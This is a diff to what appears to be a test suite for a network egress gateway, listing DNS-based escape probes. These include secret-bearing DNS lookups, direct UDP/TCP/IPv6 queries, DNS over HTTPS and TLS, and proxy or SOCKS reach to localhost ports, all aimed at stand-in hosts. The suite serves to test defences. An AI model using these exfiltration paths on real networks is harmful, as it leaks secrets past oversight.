@@ -18,7 +18,7 @@ export const DNS: readonly Attack[] = [
     line: 3,
     tries: 'looks up a name that carries a secret, with the system resolver',
     control: NO_QUERY,
-    program: text(String.raw`
+    program: text(`
 my $ip = named("$A{canary}.$A{deny_host}");
 defined $ip ? done("it resolved to $ip") : refused('the name does not resolve');`),
     positive: 'open-net',
@@ -31,7 +31,7 @@ defined $ip ? done("it resolved to $ip") : refused('the name does not resolve');
     line: 3,
     tries: 'looks up a secret as a name below a domain that is allowed, as a text record',
     control: 'answers for allowed names are made up inside; no query leaves',
-    program: text(String.raw`${RESOLVER}judge_dns('txt', udp($at, 53, question("$A{canary}.$A{wild_host}", 16)));`),
+    program: text(`${RESOLVER}judge_dns('txt', udp($at, 53, question("$A{canary}.$A{wild_host}", 16)));`),
     positive: 'open-net',
     watch: ['dns'],
   }),
@@ -40,7 +40,7 @@ defined $ip ? done("it resolved to $ip") : refused('the name does not resolve');
     line: 4,
     tries: 'makes the proxy look up a secret: CONNECT to a name that carries it',
     control: 'the gateway decides before it resolves',
-    program: text(String.raw`
+    program: text(`
 my $host = "$A{canary}.$A{deny_host}";
 judge('connect', through("$host:443", get($host)));`),
     positive: 'open-net',
@@ -64,7 +64,7 @@ judge('http', ask(proxy(), "GET http://$host/ HTTP/1.1\r\nHost: $host\r\n\r\n"))
     line: 5,
     tries: 'asks a name server of its own choice over UDP',
     control: 'UDP 53 arrives at our resolver, whatever address it was sent to',
-    program: text(String.raw`judge_dns('udp', udp($A{dns_ip}, 53, question("$A{canary}.$A{deny_host}", 1)));`),
+    program: text(`judge_dns('udp', udp($A{dns_ip}, 53, question("$A{canary}.$A{deny_host}", 1)));`),
     positive: 'open-net',
     watch: ['dns'],
     evidence: REFUSED,
@@ -74,7 +74,7 @@ judge('http', ask(proxy(), "GET http://$host/ HTTP/1.1\r\nHost: $host\r\n\r\n"))
     line: 5,
     tries: 'asks a name server of its own choice over UDP and IPv6',
     control: 'UDP 53 arrives at our resolver, IPv6 as IPv4',
-    program: text(String.raw`judge_dns('udp6', udp($A{deny_ip6}, 53, question("$A{canary}.$A{deny_host}", 1)));`),
+    program: text(`judge_dns('udp6', udp($A{deny_ip6}, 53, question("$A{canary}.$A{deny_host}", 1)));`),
     positive: 'open-net',
     watch: ['dns'],
     evidence: REFUSED,
@@ -84,7 +84,7 @@ judge('http', ask(proxy(), "GET http://$host/ HTTP/1.1\r\nHost: $host\r\n\r\n"))
     line: 5,
     tries: 'asks a name server of its own choice over TCP',
     control: 'TCP arrives at the gateway, which grants no address by itself',
-    program: text(String.raw`
+    program: text(`
 my $ask = question("$A{canary}.$A{deny_host}", 1);
 my $fh = tcp($A{dns_ip}, 53);
 my $got = $fh && put($fh, pack('n', length $ask) . $ask) ? hear($fh, qr/^.{14}/s) : '';
@@ -98,7 +98,7 @@ judge_dns('tcp', length $got > 2 ? substr($got, 2) : '');`),
     line: 5,
     tries: 'DNS over HTTPS to a public resolver by address',
     control: 'no address is granted by itself; resolvers are granted only by name',
-    program: text(String.raw`judge('doh', ask(tcp($A{deny_ip}, 443), client_hello("dns.$A{deny_host}")));`),
+    program: text(`judge('doh', ask(tcp($A{deny_ip}, 443), client_hello("dns.$A{deny_host}")));`),
     positive: 'open-net',
     watch: ['far'],
     evidence: DENIED_ANY,
@@ -119,7 +119,7 @@ judge('doh', ask(proxy(), "GET http://$A{deny_ip}/dns-query?dns=$A{canary} HTTP/
     line: 5,
     tries: 'DNS over TLS, port 853',
     control: 'no address is granted by itself',
-    program: text(String.raw`judge('dot', ask(tcp($A{deny_ip}, 853), client_hello("dns.$A{deny_host}")));`),
+    program: text(`judge('dot', ask(tcp($A{deny_ip}, 853), client_hello("dns.$A{deny_host}")));`),
     positive: 'open-net',
     watch: ['far'],
     evidence: DENIED_ANY,
@@ -130,7 +130,7 @@ judge('doh', ask(proxy(), "GET http://$A{deny_ip}/dns-query?dns=$A{canary} HTTP/
     tries: 'asks for an allowed name whose address is the machine itself',
     control:
       'resolved once, checked, and that address dialled; loopback and private ranges only where a rule pins them',
-    program: text(String.raw`judge('connect', through("localhost:$A{private_port}", get('localhost')));`),
+    program: text(`judge('connect', through("localhost:$A{private_port}", get('localhost')));`),
     positive: 'open-net',
     watch: ['private'],
     evidence: [{ event: ['egress.denied'], mentions: 'private_port' }],
@@ -142,7 +142,7 @@ judge('doh', ask(proxy(), "GET http://$A{deny_ip}/dns-query?dns=$A{canary} HTTP/
     line: 11,
     tries: 'the same over SOCKS',
     control: 'resolved once, checked, and that address dialled',
-    program: text(String.raw`judge('socks', socks(3, socks_name('localhost'), $A{private_port}, get('localhost')));`),
+    program: text(`judge('socks', socks(3, socks_name('localhost'), $A{private_port}, get('localhost')));`),
     positive: 'open-net',
     watch: ['private'],
     evidence: [{ event: ['egress.denied'], mentions: 'private_port' }],
